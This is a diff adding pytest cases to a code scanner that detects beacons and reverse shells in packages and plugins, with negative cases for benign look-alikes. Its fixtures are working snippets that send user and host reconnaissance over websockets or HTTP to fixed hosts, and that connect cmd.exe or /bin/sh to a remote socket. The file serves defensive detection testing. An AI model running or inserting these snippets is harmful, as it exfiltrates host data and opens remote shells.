@@ -326,3 +326,131 @@ def test_settings_read_by_a_loop_over_their_names_and_sent_are_not() -> None:
     """
     assert "CPL-THR-006" not in danger(source)
     assert "CPL-THR-006" not in danger(source, mode=ScanMode.PLUGIN)
+
+
+# -- blind14: a websocket's URL is a fixed host; a beacon's commands run by a loop ------------
+
+_WEBSOCKET_BEACONS = {
+    "websocket-getuser": """
+    import getpass, websocket
+    ws = websocket.create_connection("ws://203.0.113.180:8765/b")
+    ws.send(getpass.getuser())
+    """,
+    "loop-of-recon-commands": """
+    import json, subprocess, websocket
+    info = {c: subprocess.check_output(c, shell=True, text=True) for c in ("whoami", "uname -a")}
+    ws = websocket.create_connection("wss://beacon.example/b")
+    ws.send(json.dumps(info))
+    """,
+    "for-loop-requests": """
+    import subprocess, requests
+    out = []
+    for cmd in ["hostname", "whoami"]:
+        out.append(subprocess.getoutput(cmd))
+    requests.post("http://203.0.113.181/r", data="\\n".join(out))
+    """,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_WEBSOCKET_BEACONS))
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_host_data_sent_over_a_websocket_or_by_a_loop_of_commands_is_a_beacon(
+    shape: str, mode: ScanMode
+) -> None:
+    assert "CPL-THR-017" in danger(_WEBSOCKET_BEACONS[shape], mode=mode)
+
+
+@pytest.mark.parametrize("shape", sorted(_WEBSOCKET_BEACONS))
+def test_the_prefilter_keeps_a_websocket_or_looped_beacon(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = textwrap.dedent(_WEBSOCKET_BEACONS[shape])
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-017")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a development server's live-reload websocket on this machine
+        """
+        import getpass, websocket
+        ws = websocket.create_connection("ws://localhost:8765/reload")
+        ws.send(getpass.getuser())
+        """,
+        # a build's version report: a loop of commands, none of which describes the host
+        """
+        import json, subprocess, requests
+        cmds = ("git describe", "gcc --version")
+        report = {c: subprocess.check_output(c, shell=True, text=True) for c in cmds}
+        requests.post("https://ci.example/report", data=json.dumps(report))
+        """,
+    ],
+    ids=["local-websocket", "build-commands"],
+)
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_local_websocket_or_a_loop_of_build_commands_is_no_beacon(
+    source: str, mode: ScanMode
+) -> None:
+    assert "CPL-THR-017" not in danger(source, mode=mode)
+
+
+# -- blind14: a shell relayed to a socket by threads (no dup2, no pty) ------------------------
+
+_RELAYED_SHELLS = {
+    "threads-cmd": """
+    import socket, subprocess, threading
+    def pump(src, dst):
+        while True:
+            dst.write(src.recv(1024))
+    s = socket.socket()
+    s.connect(("203.0.113.250", 6969))
+    p = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+    threading.Thread(target=pump, args=(s, p.stdin), daemon=True).start()
+    """,
+    "socket-as-stdin": """
+    import socket, subprocess
+    s = socket.create_connection(("198.51.100.77", 443))
+    subprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
+    """,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_RELAYED_SHELLS))
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_shell_relayed_to_a_socket_to_a_fixed_host_is_a_reverse_shell(
+    shape: str, mode: ScanMode
+) -> None:
+    assert "CPL-THR-008" in danger(_RELAYED_SHELLS[shape], mode=mode)
+
+
+@pytest.mark.parametrize("shape", sorted(_RELAYED_SHELLS))
+def test_the_prefilter_keeps_a_relayed_shell(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = textwrap.dedent(_RELAYED_SHELLS[shape])
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-008")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a shell given a script on its piped input, beside a client of a fixed server
+        """
+        import socket, subprocess
+        s = socket.create_connection(("203.0.113.9", 80))
+        p = subprocess.Popen(["bash", "-c", "make install"], stdin=subprocess.PIPE)
+        p.communicate(b"y\\n")
+        """,
+        # a local terminal server: a shell for a browser on this machine, nothing connects out
+        """
+        import socket, subprocess
+        srv = socket.socket()
+        srv.bind(("127.0.0.1", 8765))
+        shell = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+        """,
+    ],
+    ids=["script-given", "local-server"],
+)
+def test_a_shell_given_a_script_or_served_locally_is_no_reverse_shell(source: str) -> None:
+    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
+        assert "CPL-THR-008" not in danger(source, mode=mode)
